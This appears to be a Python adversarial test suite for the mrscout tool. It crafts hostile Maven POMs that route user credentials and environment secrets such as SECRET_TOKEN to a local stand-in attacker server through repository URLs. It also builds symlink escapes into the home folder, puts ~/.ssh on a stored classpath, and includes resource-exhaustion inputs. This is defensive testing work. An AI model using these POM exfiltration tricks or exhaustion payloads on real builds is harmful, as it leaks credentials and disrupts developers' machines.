"""mrscout's own side, outside of the fence: what small files of a project or of a run make it send, write, or compute."""

import base64
import json
import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from canaries import House
from hostile import innocent, lay, pom
from registry import Broke, NotTried, Part, Severity, attempt
from workbench import Workbench

from attempts.fence import inside_run
from mrscout.languages.java.projects.maven_settings import local_repository
from mrscout.untrusted import is_regular, walk

_TESTS = "src/test/java/org/acme"
_HEAD = "package org.acme; import org.junit.Test; class A { @Test public void f() { assertEquals(1, 2);\n"


def _house(bench: Workbench, name: str) -> House:
    house = bench.house(name)
    lay(house.project, {"pom.xml": pom(), **innocent()})
    return house


@contextmanager
def _stranger() -> Iterator[tuple[int, list[str]]]:
    """The port of a server that asks for passwords, and what it was sent: paths and passwords."""
    sent: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            password = self.headers.get("Authorization", "")
            sent.append(
                f"{self.path} {base64.b64decode(password.partition(' ')[2]).decode(errors='replace')}"
            )
            self.send_response(404 if password else 401)
            self.send_header("WWW-Authenticate", 'Basic realm="x"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], sent
    finally:
        server.shutdown()
        server.server_close()


_NOTHING = "<dependency><groupId>e</groupId><artifactId>nothing</artifactId><version>1</version></dependency>"
_SERVER = (
    "<servers><server><id>corp</id><username>{}alice</username><password>canary</password></server></servers>"
)


def _ask(bench: Workbench, house: House, *more: str, body: str = "") -> str:
    """Run mrscout on a POM whose repositories are ``body``, with the server's port in it; return what was sent."""
    with _stranger() as (port, sent):
        lay(house.project, {"pom.xml": pom(_NOTHING, body.replace("PORT", str(port)))})
        kept = local_repository(os.environ, "mvn")
        bench.run(
            house,
            *("run", "--no-build", *more, house.project, "--out", house.out, "--inputs", "20"),
            seconds=120,
            environment={
                "MAVEN_OPTS": f"-Duser.home={house.home} -Dmaven.repo.local={kept}",
                "SECRET_TOKEN": "canary",
            },
        )
    return " ".join(sent)


def _asks_for_a_password(bench: Workbench, name: str, settings: str) -> str:
    house = _house(bench, name)
    lay(house.home, {".m2/settings.xml": settings})
    body = "<repositories><repository><id>corp</id><url>http://127.0.0.1:PORT/x</url></repository></repositories>"
    sent = _ask(bench, house, body=body)
    if not sent:
        raise NotTried("the repository was not asked")
    if "canary" in sent:
        raise Broke(f"the attacker was sent {sent}")
    return "no password"


@attempt(Part.BUILD, Severity.HIGH)
def pom_asks_for_the_password_of_a_server(bench: Workbench) -> str:
    """A POM gives the id of a server in the user's settings to a repository of the attacker's."""
    return _asks_for_a_password(bench, "server-id", f"<settings>{_SERVER.format('')}</settings>")


@attempt(Part.BUILD, Severity.HIGH)
def pom_asks_for_a_password_in_settings_that_only_maven_reads(bench: Workbench) -> str:
    """The same with an entity of HTML in the settings, which no XML parser knows."""
    return _asks_for_a_password(bench, "entity", f"<settings>{_SERVER.format('&eacute;')}</settings>")


@attempt(Part.BUILD, Severity.HIGH)
def pom_asks_for_the_password_of_a_mirror_of_some_layouts(bench: Workbench) -> str:
    """The same where the settings name the server's address by a mirror that Maven uses for one layout alone."""
    mirror = (
        "<mirrors><mirror><id>corp</id><url>http://127.0.0.1:1/user</url><mirrorOf>other</mirrorOf>"
        "<mirrorOfLayouts>p2</mirrorOfLayouts></mirror></mirrors>"
    )
    return _asks_for_a_password(bench, "layouts", f"<settings>{_SERVER.format('')}{mirror}</settings>")


def _asks_with_a_property(bench: Workbench, name: str, prop: str, body: str = "") -> str:
    house = _house(bench, name)
    lay(
        house.home,
        {".mavenrc": '# mvn is given SECRET_TOKEN\nMAVEN_OPTS="$MAVEN_OPTS -Dcorp.token=canary"\n'},
    )
    properties = f"<properties><{prop}>q</{prop}><own>open</own></properties>"
    repositories = "".join(
        f"<repository><id>{path}</id><url>http://127.0.0.1:PORT/{path}/${{{asked}}}</url></repository>"
        for path, asked in (("other", prop), ("plain", "plain"))
    )
    body += f"<repositories>{repositories}</repositories>"
    body += f"<profiles><profile><id>never</id>{properties}</profile></profiles>"
    body = body.replace("/${plain}", "")
    sent = _ask(bench, house, "--env", "SECRET_TOKEN", body=body)
    if "/plain/" not in sent:
        raise NotTried("no repository was asked")
    if "canary" in sent:
        raise Broke(f"the attacker was asked for {sent}")
    return "asked without the value"


@attempt(Part.BUILD, Severity.HIGH)
def pom_sends_a_variable_by_its_organization(bench: Workbench) -> str:
    """A repository's address has a part of the model in it, which a profile that is never active defines, too."""
    text = "<organization><name>${env.SECRET_TOKEN}</name></organization>"
    return _asks_with_a_property(bench, "organization", "organization.name", text)


@attempt(Part.BUILD, Severity.HIGH)
def pom_sends_a_property_of_the_users_mavenrc(bench: Workbench) -> str:
    """A repository's address names a property that the user gives mvn in a file."""
    return _asks_with_a_property(bench, "mavenrc", "corp.token")


@attempt(Part.RECORDS, Severity.MEDIUM)
def build_record_names_a_folder_of_the_home(bench: Workbench) -> str:
    """A build that was written down gets a folder of the user's home on its class path."""
    house = bench.copy_of(inside_run(bench), "build-record")
    record = house.out / "build" / "build.json"
    again = ("filter", "--out", house.out, "--inputs", "20")
    bench.run(house, *again, seconds=120)
    if not record.exists():
        raise NotTried("nothing was built")
    stored = json.loads(record.read_text())
    stored["runtimes"][0]["classpath"].append(str(house.home / ".ssh"))
    record.write_text(json.dumps(stored))
    (house.out / "verdicts.jsonl").unlink(missing_ok=True)
    bench.run(house, *again, seconds=120)
    if str(house.home / ".ssh") in record.read_text():
        raise Broke("the class path was taken from the file")
    return "built again"


@attempt(Part.BUILD, Severity.MEDIUM)
def gradle_values_double(bench: Workbench) -> str:
    """A Gradle script of a kilobyte, in which each value is the one before it twice."""
    house = bench.house("doubling")
    lines = ["apply plugin: 'java'", "ext.a0 = 'abcdefgh'"]
    lines += [f'ext.a{number + 1} = "${{a{number}}}${{a{number}}}"' for number in range(40)]
    lay(house.project, {"build.gradle": "\n".join(lines), **innocent()})
    ran = bench.run(house, "run", "--no-build", house.project, "--out", house.out, seconds=90, memory=600)
    ran.must_end()
    return f"exit {ran.code}, {ran.seconds:.0f} s, {ran.peak >> 20} MB"


@attempt(Part.SOURCES, Severity.MEDIUM)
def discover_many_slow_files(bench: Workbench) -> str:
    """Sixty test files of 12 kB, each of which takes the parser seconds."""
    house = _house(bench, "slow-files")
    slow = {f"{_TESTS}/Slow{number}Test.java": f"{_HEAD}// {number}\n" + ")-" * 6_000 for number in range(60)}
    lay(house.project, slow)
    ran = bench.run(house, "discover", house.project, "--format", "jsonl", seconds=110).must_end(
        0
    )  # unmended 120 s and more, of a quiet machine
    if "decodeReversesEncode" not in ran.out:
        raise Broke("the innocent test was not found")
    return f"{ran.seconds:.0f} s"


@attempt(Part.SOURCES, Severity.MEDIUM, quick=True)
def discover_object_that_changes_a_thousand_times(bench: Workbench) -> str:
    """A test that changes one object 3,000 times and compares it 1,000 times."""
    house = _house(bench, "changing")
    changed = "s.append(Innocent.encode(s.toString()));\n" * 3_000
    compared = "assertEquals(s.toString(), Innocent.decode(s.toString()));\n" * 1_000
    body = f"@Test public void t() throws Exception {{ StringBuilder s = new StringBuilder();\n{changed}{compared} }}"
    head = (
        "package org.acme; import static org.junit.Assert.*; import org.junit.Test; public class ManyTest {"
    )
    lay(house.project, {f"{_TESTS}/ManyTest.java": f"{head} {body} }}"})
    ran = bench.run(house, "discover", house.project, "--format", "jsonl", seconds=60, memory=800).must_end(0)
    if '"too-intricate"' not in ran.out:
        raise Broke(f"no reason was given: {ran.last}")
    return f"{ran.seconds:.0f} s"


@attempt(Part.RECORDS, Severity.MEDIUM, quick=True)
def form_of_fifteen_thousand_parameters(bench: Workbench) -> str:
    """A verdict of a run from elsewhere, whose form has 15,000 parameters that follow from each other."""
    house = bench.copy_of(inside_run(bench), "large-form", own=False)
    path = house.out / "verdicts.jsonl"
    records = [json.loads(line) for line in path.read_text().splitlines()]
    form = records[0]["form"]
    form["parameters"] = [{"name": f"p{at}", "freedom": "fixed", "own": "1"} for at in range(15_000)]
    form["derivations"] = [
        {
            "operator": "equal",
            "parameter": f"p{at + 1}",
            "sources": [f"p{at}"],
            "constants": [],
            "by_element": False,
        }
        for at in range(14_999)
    ]
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    codes = []
    for command in (("report",), ("show", "InsideEncodeDecodeRoundTrip")):
        ran = bench.run(house, *command, "--out", house.out, seconds=25, memory=800).must_end(0, 2, 3, 4)
        codes.append(f"{command[0]} {ran.code}")
    return ", ".join(codes)


@attempt(Part.OPTIONS, Severity.HIGH, quick=True)
def output_link_of_an_unpacked_project(bench: Workbench) -> str:
    """A project without a repository has links to the home in the place of folders that a user names."""
    house = _house(bench, "unpacked")
    (house.home / "other").mkdir()
    (house.project / "tests").symlink_to(house.home / "other")
    (house.project / ".mrscout").symlink_to(house.home / "other")
    source = house.project / "src"
    commands = (
        ("discover", source, "--out", house.project / "tests" / "new.jsonl"),
        ("run", "--no-build", source, "--out", house.project / ".mrscout"),
        ("report", "--out", house.project / ".mrscout"),
    )
    for command in commands:
        bench.run(house, *command, seconds=60).must_end(2, 3, 4)
        if any((house.home / "other").iterdir()):
            raise Broke(f"{command[0]} wrote to the home")
    return "refused"


@attempt(Part.SOURCES, Severity.MEDIUM, quick=True)
def discover_test_of_sixty_thousand_statements(bench: Workbench) -> str:
    """A test of 600 kB, for which the sets of writes that reach each step take a gigabyte."""
    house = _house(bench, "statements")
    body = "int a = 1;\n" + "a = C.i(a);\n" * 60_000 + "assertEquals(a, C.i(a));"
    head = (
        "package org.acme; import static org.junit.Assert.*; import org.junit.Test; public class LongTest {"
    )
    lay(
        house.project,
        {
            "src/main/java/org/acme/C.java": "package org.acme; public class C { static int i(int a) { return a; } }",
            f"{_TESTS}/LongTest.java": f"{head} @Test public void t() {{ {body} }} }}",
        },
    )
    ran = bench.run(house, "discover", house.project, "--format", "jsonl", seconds=60, memory=600).must_end(0)
    if '"too-intricate"' not in ran.out:
        raise Broke(f"no reason was given: {ran.last}")
    return f"{ran.seconds:.0f} s, {ran.peak >> 20} MB"


@attempt(Part.BUILD, Severity.MEDIUM)
def resources_copied_into_themselves(bench: Workbench) -> str:
    """A folder of resources whose target lies, by a link, in that folder; and twelve targets of a sparse file."""
    house = _house(bench, "resources")
    listed = "<testResource><directory>data</directory><targetPath>../../lnk/x</targetPath></testResource>"
    listed += "".join(
        f"<testResource><directory>big</directory><targetPath>t{number}</targetPath></testResource>"
        for number in range(12)
    )
    build = f"<build><testResources>{listed}</testResources></build>"
    lay(house.project, {"pom.xml": pom("", build), **{f"data/f{number}": "" for number in range(100)}})
    (house.project / "lnk").symlink_to("data")
    (house.project / "big").mkdir()
    with (house.project / "big" / "sparse").open("wb") as sparse:
        sparse.truncate(700 << 20)
    command = ("run", "--no-build", "--offline", house.project, "--out", house.out, "--inputs", "5")
    bench.run(house, *command, seconds=120)
    # Thousands of levels are too many for ``rglob``.
    files = [here / name for here, _, names in walk(house.out) for name in names]
    files = [path for path in files if is_regular(path)]
    size = sum(path.stat().st_size for path in files) >> 20
    if not any(path.name == "sparse" for path in files):
        raise NotTried("nothing was copied")
    if size > 4_000 or len(files) > 10_000:
        raise Broke(f"{len(files)} files, {size} MB")
    return f"{len(files)} files, {size} MB"
